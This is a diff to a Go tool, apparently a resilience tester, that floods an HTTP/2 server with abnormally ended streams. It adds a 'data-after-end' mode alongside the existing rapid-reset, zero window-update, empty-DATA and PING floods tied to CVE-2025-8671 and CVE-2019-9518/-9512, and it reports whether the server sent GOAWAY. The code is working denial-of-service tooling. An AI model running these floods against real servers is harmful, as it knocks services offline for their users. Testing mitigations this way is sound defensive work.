@@ -4,8 +4,9 @@
 // and reports as one JSON line how many it sent, whether the server sent
 // GOAWAY (and its code) and closed the connection; then one normal GET on
 // a new connection, and its status. --mode window-update-0 sends a
-// WINDOW_UPDATE of 0 on each stream instead of RST_STREAM, which the
-// server must answer by resetting the stream itself ("MadeYouReset",
+// WINDOW_UPDATE of 0 on each stream instead of RST_STREAM, and --mode
+// data-after-end a DATA frame on each stream it ended, which the server
+// must answer by resetting the stream itself ("MadeYouReset",
 // CVE-2025-8671). --mode empty-data and --mode ping send frames that do no
 // work instead (CVE-2019-9518, -9512): on one POST stream, DATA frames
 // without data; or PING frames; --streams then bounds the frames.
@@ -43,12 +44,12 @@ func main() {
 	streams := flag.Int("streams", 5000, "streams to open and reset (upper bound)")
 	duration := flag.Duration("duration", 20*time.Second, "send for at most this long")
 	path := flag.String("path", "/", "request path")
-	mode := flag.String("mode", "rst", "how each stream is ended: rst (RST_STREAM CANCEL) or window-update-0; or a flood of frames doing no work: empty-data, ping")
+	mode := flag.String("mode", "rst", "how each stream is ended: rst (RST_STREAM CANCEL), window-update-0 or data-after-end; or a flood of frames doing no work: empty-data, ping; or frame-header")
 	flag.Parse()
 	switch *mode {
-	case "rst", "window-update-0", "empty-data", "ping", "frame-header":
+	case "rst", "window-update-0", "data-after-end", "empty-data", "ping", "frame-header":
 	default:
-		fmt.Fprintln(os.Stderr, "h2rapid: --mode: rst, window-update-0, empty-data, ping or frame-header")
+		fmt.Fprintln(os.Stderr, "h2rapid: --mode: rst, window-update-0, data-after-end, empty-data, ping or frame-header")
 		os.Exit(2)
 	}
 	run := run
@@ -131,7 +132,8 @@ func run(addr, path, mode string, streams int, duration time.Duration) (Report, 
 			}
 		}
 	}
-	for id := uint32(1); (mode == "rst" || mode == "window-update-0") && rep.Sent < streams && time.Now().Before(end); id += 2 {
+	resets := mode == "rst" || mode == "window-update-0" || mode == "data-after-end"
+	for id := uint32(1); resets && rep.Sent < streams && time.Now().Before(end); id += 2 {
 		if goAway.Load() != nil {
 			break
 		}
@@ -139,9 +141,12 @@ func run(addr, path, mode string, streams int, duration time.Duration) (Report, 
 			break
 		}
 		var err error
-		if mode == "window-update-0" {
+		switch mode {
+		case "window-update-0":
 			err = fr.WriteRawFrame(http2.FrameWindowUpdate, 0, id, []byte{0, 0, 0, 0})
-		} else {
+		case "data-after-end":
+			err = fr.WriteData(id, false, []byte("x"))
+		default:
 			err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
 		}
 		if err != nil {
